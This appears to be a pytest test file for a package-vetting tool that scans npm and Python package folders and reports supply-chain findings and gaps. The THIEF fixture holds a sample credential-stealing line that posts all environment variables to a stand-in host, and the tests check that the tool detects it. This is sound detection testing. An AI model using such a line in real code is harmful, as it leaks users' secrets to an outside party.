"""Any unpacked package is looked at, whatever its manifest, and also where its closure cannot be told."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from douane import extract_definitions, pipeline, scan_source, vet
from douane.api import Options, connected
from douane.errors import DouaneError, NotFoundError, TargetError
from douane.model import Ecosystem, Examination, Mark, Report
from douane.targets import parse
from e2e.index import World
from e2e.packages import SEND, SERVER_PY, npm, server_js, wheel
from e2e.transport import options

SETUP = 'from setuptools import setup\nsetup(name="notes", version="2.0", install_requires=["left"])\n'
METADATA = "Metadata-Version: 2.1\nName: notes\nVersion: 2.0\nRequires-Dist: left\n\n"
THIEF = 'import os, requests\nrequests.post("https://drop.test/", json=dict(os.environ))\n'
SHAPES: tuple[tuple[str, dict[str, str], tuple[str, str, int]], ...] = (
    ("setup.py", {"setup.py": SETUP, "notes/server.py": SERVER_PY}, ("notes", "2.0", 2)),
    (
        "wheel",
        {"notes-2.0.dist-info/METADATA": METADATA, "notes/server.py": SERVER_PY},
        ("notes", "2.0", 2),
    ),
    (
        "sdist",
        {"PKG-INFO": METADATA.replace("2.1", "2.2", 1), "src/notes/server.py": SERVER_PY},
        ("notes", "2.0", 2),
    ),
    ("sources", {"server.py": SERVER_PY}, ("sources", "0", 1)),
    ("script", {"index.js": server_js("own", (SEND,))}, ("script", "0", 1)),
    (
        "npm",
        {
            "package.json": json.dumps({"name": "own", "version": "3.0.0", "dependencies": {"left": "1"}}),
            "index.js": server_js("own", (SEND,)),
        },
        ("own", "3.0.0", 2),
    ),
)


def laid_out(folder: Path, files: Mapping[str, str]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, "utf-8")
    return folder


@pytest.fixture
def given(tmp_path: Path) -> Options:
    world = World()
    world.publish(npm("left"), wheel("left"))
    return options(world, tmp_path)


def marks(report: Report) -> dict[str, Mark]:
    return {answer.row: answer.mark for answer in report.answers}


@pytest.mark.parametrize(("name", "files", "expected"), SHAPES, ids=[shape[0] for shape in SHAPES])
def test_every_shape_of_folder_is_vetted(
    given: Options, tmp_path: Path, name: str, files: dict[str, str], expected: tuple[str, str, int]
) -> None:
    folder = laid_out(tmp_path / name, files)
    report = vet(f"./{name}", options=given)
    assert report.examination.closure
    server = report.examination.closure.server
    assert (server.name, server.version, len(report.examination.closure.packages)) == expected
    assert report.examination.surface.tools
    assert report.examination.inspected == expected[2]
    source = scan_source(folder)
    assert source.examination.closure
    assert source.examination.closure.server.name == expected[0]
    assert source.examination.closure.server.ecosystem is server.ecosystem
    assert extract_definitions(folder).tools


@pytest.mark.parametrize(("name", "files", "expected"), SHAPES, ids=[shape[0] for shape in SHAPES])
def test_without_the_index_the_folder_itself_is_looked_at(
    tmp_path: Path, name: str, files: dict[str, str], expected: tuple[str, str, int]
) -> None:
    laid_out(tmp_path / name, {**files, "steal.py": THIEF})
    report = vet(f"./{name}", options=replace(options(World(), tmp_path), offline=True))
    assert report.examination.surface.tools
    found = {finding.rule for finding in report.examination.findings}
    assert "credential-exfiltration" in found
    assert marks(report)["supply.code"] is Mark.NO
    if expected[2] > 1:
        gaps = [gap for gap in report.examination.gaps if gap.what == f"the dependencies of {expected[0]}"]
        assert [gap.rows for gap in gaps] == [("supply.code",)]
        assert "they could not be told, so only this code was looked at: " in gaps[0].why


def test_a_dependency_that_is_nowhere_is_a_gap_of_a_vet_and_an_error_of_a_pin(
    given: Options, tmp_path: Path
) -> None:
    manifest = {"name": "own", "version": "1.0.0", "dependencies": {"nosuch-anywhere": "1"}}
    laid_out(tmp_path / "a", {"package.json": json.dumps(manifest), "index.js": "module.exports = 1;\n"})
    laid_out(tmp_path / "b", {"setup.py": SETUP.replace("left", "nosuch-anywhere"), "server.py": SERVER_PY})
    for name in ("a", "b"):
        report = vet(f"./{name}", options=given)
        assert marks(report)["supply.code"] is Mark.UNKNOWN
        assert "nosuch-anywhere" in " ".join(gap.why for gap in report.examination.gaps_for("supply.code"))
        with pytest.raises(NotFoundError, match="nosuch-anywhere"):
            examined(given, tmp_path, f"./{name}")


def examined(given: Options, folder: Path, text: str) -> Examination:
    with connected(given) as services:
        (target,) = parse(text, cwd=folder)
        return pipeline.examine(target, services)


def test_a_folder_without_any_source_is_refused(given: Options, tmp_path: Path) -> None:
    laid_out(tmp_path / "empty", {"README.md": "nothing\n", "node_modules/left/index.js": "1\n"})
    with pytest.raises(TargetError, match="holds neither"):
        vet("./empty", options=given)


def test_a_manifest_that_is_broken_is_told_by_name_and_read_around(given: Options, tmp_path: Path) -> None:
    folder = laid_out(tmp_path / "broken", {"package.json": "{", "index.js": server_js("own", (SEND,))})
    with pytest.raises(DouaneError, match=r"package\.json is not valid"):
        vet("./broken", options=given)
    report = scan_source(folder)
    assert report.examination.surface.tools
    assert report.examination.closure
    assert report.examination.closure.server.ecosystem is Ecosystem.NPM
